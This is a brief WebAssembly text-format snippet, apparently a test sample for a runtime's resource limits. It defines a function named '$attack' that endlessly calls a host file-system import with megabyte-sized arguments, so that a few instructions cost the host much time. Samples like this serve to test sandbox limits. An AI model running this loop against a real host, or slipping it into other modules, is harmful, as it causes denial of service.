;; Calls without end, and gives the host a megabyte each time, in vain: few instructions and much time.
(func $attack (param $source i32) (param $length i32)
  (loop $again
    (call $file-system.touch (i32.const 0x100000) (i32.const 0x100000) (i32.const 4096))
    (br $again)))
